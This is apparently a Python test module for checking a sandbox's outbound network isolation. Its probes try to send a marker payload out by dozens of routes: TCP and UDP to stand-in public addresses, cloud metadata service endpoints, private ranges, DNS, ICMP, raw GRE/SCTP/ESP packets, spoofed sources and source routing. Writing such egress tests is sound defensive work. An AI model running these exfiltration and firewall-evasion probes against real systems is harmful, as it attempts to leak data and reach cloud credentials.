"""What a program may try in order to send something out. Each probe is a function without arguments that runs inside and
does not care about errors: the sniffer outside is the judge."""
import contextlib
import socket
import struct
import time

from nets import ALLOWED4, PORT

EXFIL = b"EXFIL" * 8
REPORT_DELAY = 0.5  # the kernel reports a membership after a random delay; that it does not has no event
PUBLIC4, PUBLIC6 = "198.51.101.9", "2001:db8:bb::9"


def tcp(host, port, kind=socket.AF_INET, protocol=0):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(0.3)
        s.connect((host, port))
        s.send(EXFIL)


def udp(host, port, kind=socket.AF_INET, size=len(EXFIL), protocol=0):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_DGRAM, protocol) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for _ in range(2):
            with contextlib.suppress(OSError):
                s.sendto((EXFIL * (size // len(EXFIL) + 1))[:size], (host, port))


def raw(host, protocol, payload, kind=socket.AF_INET):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_RAW, protocol) as s:
        s.sendto(payload, (host, 0))


def spoofed():
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(EXFIL), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.99"),
                         socket.inet_aton(PUBLIC4))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(header + struct.pack("!HHHH", 9, 9, 8 + len(EXFIL), 0) + EXFIL, (PUBLIC4, 0))


def bare_ack():
    segment = struct.pack("!HHIIBBHHH", 4321, PORT, 7, 7, 5 << 4, 0x10, 1024, 0, 0) + EXFIL
    raw(ALLOWED4, socket.IPPROTO_TCP, segment)


def source_route():
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton(PUBLIC4) + b"\0")
        s.sendto(EXFIL, (ALLOWED4, PORT))


def fast_open():
    with contextlib.suppress(OSError), socket.socket() as s:
        s.settimeout(0.3)
        s.sendto(EXFIL, socket.MSG_FASTOPEN, (PUBLIC4, PORT))


def echo(kind, host, head):
    protocol = socket.IPPROTO_ICMP if kind == socket.AF_INET else socket.IPPROTO_ICMPV6
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_DGRAM, protocol) as s:
        s.sendto(head + b"\0\0\0\0\0\1" + EXFIL, (host, 0))


def join4():
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     socket.inet_aton("239.69.88.70") + socket.inet_aton("198.51.100.100"))
        time.sleep(REPORT_DELAY)


def join6():
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(socket.AF_INET6, "ff0e::4558:4649:4c21") + struct.pack("I", socket.if_nametoindex("eth0")))
        time.sleep(REPORT_DELAY)


def link_local():
    udp("fe80::1%eth0", 9, socket.AF_INET6)


V6 = socket.AF_INET6
PROBES = {
    "tcp to another port of an allowed address": lambda: tcp(ALLOWED4, 80),
    "tcp to another public address": lambda: tcp(PUBLIC4, PORT),
    "tcp to an address written as a number": lambda: tcp("0xc6336509", PORT),
    "tcp to another public address, IPv6": lambda: tcp(PUBLIC6, PORT, V6),
    "tcp to an IPv4-mapped address": lambda: tcp("::ffff:" + PUBLIC4, PORT, V6),
    "multipath tcp": lambda: tcp(PUBLIC4, PORT, socket.AF_INET, 262),
    "tcp fast open": fast_open,
    "tcp to the metadata service": lambda: tcp("169.254.169.254", 80),
    "tcp to the metadata service of tasks": lambda: tcp("169.254.170.2", 80),
    "tcp to the metadata service, IPv6": lambda: tcp("fd00:ec2::254", 80, V6),
    "tcp to the metadata service in CGNAT": lambda: tcp("100.100.100.200", 80),
    "tcp to the wire server": lambda: tcp("168.63.129.16", 80),
    "tcp to 10/8": lambda: tcp("10.1.2.3", PORT),
    "tcp to 172.16/12": lambda: tcp("172.16.0.9", PORT),
    "tcp to 192.168/16": lambda: tcp("192.168.7.7", PORT),
    "tcp to 100.64/10": lambda: tcp("100.64.0.9", PORT),
    "tcp to 198.18/15": lambda: tcp("198.18.0.9", PORT),
    "tcp to 192.0.0/24": lambda: tcp("192.0.0.9", PORT),
    "tcp to NAT64": lambda: tcp("64:ff9b::a00:1", PORT, V6),
    "tcp to 6to4": lambda: tcp("2002:a00:1::1", PORT, V6),
    "tcp to the gateway": lambda: tcp("198.51.100.1", 22),
    "udp": lambda: udp(PUBLIC4, 9),
    "udp, IPv6": lambda: udp(PUBLIC6, 9, V6),
    "quic": lambda: udp(PUBLIC4, 443),
    "dns over udp": lambda: udp(PUBLIC4, 53),
    "dns over udp, IPv6": lambda: udp(PUBLIC6, 53, V6),
    "dns over tcp": lambda: tcp(PUBLIC4, 53),
    "dns over tls": lambda: tcp(PUBLIC4, 853),
    "udp in fragments": lambda: udp(PUBLIC4, 9, size=5000),
    "udp in fragments, IPv6": lambda: udp(PUBLIC6, 9, V6, size=5000),
    "udplite": lambda: udp(PUBLIC4, 9, protocol=136),
    "udp to link-local": link_local,
    "broadcast": lambda: udp("255.255.255.255", 9),
    "broadcast of the network": lambda: udp("198.51.100.255", 9),
    "multicast": lambda: udp("224.0.0.251", 5353),
    "multicast, IPv6": lambda: udp("ff02::fb%eth0", 5353, V6),
    "igmp report": join4,
    "mld report": join6,
    "ping": lambda: echo(socket.AF_INET, PUBLIC4, b"\x08\0"),
    "ping, IPv6": lambda: echo(V6, PUBLIC6, b"\x80\0"),
    "ping of an allowed address": lambda: echo(socket.AF_INET, ALLOWED4, b"\x08\0"),
    "raw icmp error with a payload": lambda: raw(PUBLIC4, socket.IPPROTO_ICMP, b"\x03\x01\xfc\xfe\0\0\0\0" + EXFIL),
    "sctp": lambda: raw(PUBLIC4, 132, EXFIL),
    "dccp": lambda: raw(PUBLIC4, 33, EXFIL),
    "gre": lambda: raw(PUBLIC4, 47, b"\0\0\x08\0" + EXFIL),
    "ip in ip": lambda: raw(PUBLIC4, 4, EXFIL),
    "esp": lambda: raw(PUBLIC4, 50, EXFIL),
    "a spoofed source": spoofed,
    "a source route": source_route,
}
# To the allowed destination, so that only what they carry tells. Conntrack takes a bare segment of a flow that it does
# not know for a flow of its own, unless it is told not to.
TO_ALLOWED = {"a bare segment to an allowed destination": bare_ack}
